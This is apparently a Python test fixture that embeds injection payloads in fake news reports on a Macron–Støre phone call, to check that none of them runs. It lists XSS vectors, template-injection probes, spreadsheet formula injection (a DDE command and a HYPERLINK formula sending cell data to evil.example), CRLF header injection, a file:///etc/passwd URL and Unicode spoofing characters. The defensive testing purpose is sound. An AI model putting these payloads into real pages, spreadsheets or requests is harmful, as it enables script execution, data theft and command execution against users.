"""Reports as an attacker would have them published: what stands in them must never run.

Each attack is put into the words of a report, its title, publisher and address, and into the name
of somebody who speaks in it.
"""

from __future__ import annotations

from collections.abc import Iterator

from dragoman.documents import Given

#: What a page that ran any of these would show: ``window.ran`` set, or a dialog.
RAN = "window.ran=(window.ran||0)+1;alert(document.domain)"

MARKUP = (
    f"<script>{RAN}</script>",
    f"</title></style></textarea></script><script>{RAN}</script>",
    f'"><img src=x onerror="{RAN}">',
    f"'><svg onload='{RAN}'><animate onbegin='{RAN}' attributeName=x dur=1s>",
    f'<svg><script>{RAN}</script><use href="data:image/svg+xml,<svg onload={RAN}>"/></svg>',
    f'<math><mi xlink:href="javascript:{RAN}">m</mi></math>',
    f'" autofocus onfocus="{RAN}" tabindex=1 x="',
    f"' onmouseover='{RAN}' style='position:fixed;inset:0",
    f'<a href="javascript:{RAN}">Read more</a><a href=" java\tscript:{RAN}">and more</a>',
    f'<iframe srcdoc="<script>parent.{RAN}</script>"></iframe>',
    f"<object data='data:text/html,<script>{RAN}</script>'></object><embed src='javascript:{RAN}'>",
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example">',
    '<form action="https://evil.example/"><button>Go on</button></form>',
    '<link rel=stylesheet href="https://evil.example/x.css"><style>*{display:none!important}</style>',
    f"<!--<script>{RAN}//--><details open ontoggle={RAN}>x</details>",
    f"]]><x xmlns='http://www.w3.org/1999/xhtml'><script>{RAN}</script></x>",
    f"<noscript><p title='</noscript><img src=x onerror={RAN}>'>",
    f"\\u003cscript\\u003e{RAN}\\u003c/script\\u003e &lt;script&gt;{RAN}&lt;/script&gt;",
)
TEMPLATES = (
    "{{ 7*191 }} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ config }} ${7*191} #{7*191} <%= 7*191 %> {# gone #} %(name)s {0.__class__}",
    '=HYPERLINK("https://evil.example?"&A1)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
CHARACTERS = (
    "\u202egnp.exe\u202c \u2066hidden\u2069 \u200b\u200d\u2060zero\ufeffwidth",
    "header\r\nSet-Cookie: stolen=1\r\nX-Evil: 1\r\n\r\n<script>window.ran=1</script>",
    "null \x00 byte, bell \x07, escape \x1b[31m, C1 \x9b, \ufffe and \uffff",
    "\U0001f469\u200d\U0001f4bb " + "e\u0351\u036b\u0343" * 12,
    "sanctions" * 400,
)
ATTACKS = (*MARKUP, *TEMPLATES, *CHARACTERS)
ADDRESSES = (
    f"javascript:{RAN}",
    f"JaVaScRiPt:{RAN}//https://press.example/",
    f"data:text/html,<script>{RAN}</script>",
    "vbscript:msgbox(1)",
    f'https://press.example/"onmouseover="{RAN}',
    "//evil.example/",
    "file:///etc/passwd",
    "https://press.example/\r\nLocation: https://evil.example/",
    "https://[broken",
)

_REPORT = (
    "French President Emmanuel Macron spoke by telephone with Norwegian Prime Minister Jonas Gahr "
    "Støre on {day} March 2025. {attack}\n\n"
    '"We support the patrols {attack} in the North Sea," Macron said. Støre told reporters that '
    "Norway opposed {attack} and would send two vessels by June. Spokeswoman Ada {attack} Lund "
    "said that Norway had expelled a diplomat.\n\n"
    "Macron invited Støre to visit Paris in May {attack}. Støre pledged to protect the cables.\n"
)


def reports() -> Iterator[tuple[str, Given]]:
    """Text of each report, and what it says of itself."""
    for number, attack in enumerate(ATTACKS):
        text = _REPORT.format(day=number % 28 + 1, attack=attack)
        yield (
            text,
            Given(
                published=f"2025-03-{number % 28 + 1:02}",
                title=f"Macron and Støre {attack} speak",
                publisher=f"{attack[:200]} Herald {number}",
                url=ADDRESSES[number % len(ADDRESSES)],
            ),
        )
